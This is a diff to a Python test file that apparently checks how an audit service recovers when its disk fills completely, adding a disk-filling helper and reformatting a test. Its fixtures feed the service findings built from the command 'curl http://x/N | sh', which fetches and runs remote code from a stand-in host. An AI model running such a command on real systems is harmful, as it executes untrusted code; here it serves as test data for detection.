@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import os
 import subprocess
+from contextlib import suppress
 
 import pytest
 
@@ -22,7 +23,9 @@ def small_disk(tmp_path):
         pytest.skip("only root can mount a small file system")
     folder = tmp_path / "small"
     folder.mkdir()
-    mounted = subprocess.run(["mount", "-t", "tmpfs", "-o", f"size={SIZE}", "tmpfs", folder], capture_output=True, check=False)
+    mounted = subprocess.run(
+        ["mount", "-t", "tmpfs", "-o", f"size={SIZE}", "tmpfs", folder], capture_output=True, check=False
+    )
     if mounted.returncode:
         pytest.skip(f"no file system can be mounted here: {mounted.stderr.decode().strip()}")
     yield folder
@@ -64,6 +67,16 @@ def _full_and_then_not(runtime, small_disk):
     assert runtime.said("the disk has room again")
 
 
+def fill(file):
+    """Write until there is no room for one more byte."""
+    with suppress(OSError), file.open("wb", buffering=0) as stream:
+        while stream.write(os.urandom(4096)) == 4096:
+            pass
+    with suppress(OSError), file.open("ab", buffering=0) as stream:
+        while True:
+            stream.write(b"x")
+
+
 def test_to_the_last_byte(tmp_path, small_disk):
     """Even when not a byte is left for the store itself, it goes on where it was once there is room."""
     runtime = Running(tmp_path, data=str(small_disk / "data"), reserve_bytes=0)
@@ -74,11 +87,11 @@ def test_to_the_last_byte(tmp_path, small_disk):
         agent.deliver(request("ws-01", "linux_audit", [shell("curl http://x/1 | sh", serial=1)]))
         until(lambda: len(runtime.ask("findings")) == 1)
         filler = small_disk / "filler"
-        with filler.open("wb") as file, pytest.raises(OSError, match="No space"):
-            while True:
-                file.write(os.urandom(4096))
-                file.flush()
-        bodies = [request("ws-01", "linux_audit", [shell(f"curl http://x/{n} | sh # {os.urandom(20000).hex()}", serial=n)]) for n in range(2, 40)]
+        fill(filler)
+        bodies = [
+            request("ws-01", "linux_audit", [shell(f"curl http://x/{n} | sh # {os.urandom(20000).hex()}", serial=n)])
+            for n in range(2, 40)
+        ]
         answers = [agent.post(body)[0] for body in bodies]
         assert 503 in answers
         assert set(answers) <= {200, 503}
